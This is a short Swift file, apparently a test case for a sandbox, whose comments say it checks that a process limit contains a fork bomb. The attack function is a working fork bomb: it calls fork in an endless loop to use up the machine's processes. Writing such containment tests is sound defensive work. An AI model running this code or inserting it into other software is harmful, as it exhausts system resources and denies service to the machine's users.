// Attack: a fork bomb
// Tries: to use up the machine's processes
// Must: the limit on processes holds, and all of them end
import Glibc

@_silgen_name("fork") func forkProcess() -> Int32

func attack(_ X: Tensor) throws {
  while true { if forkProcess() < 0 { usleep(1000) } }
}
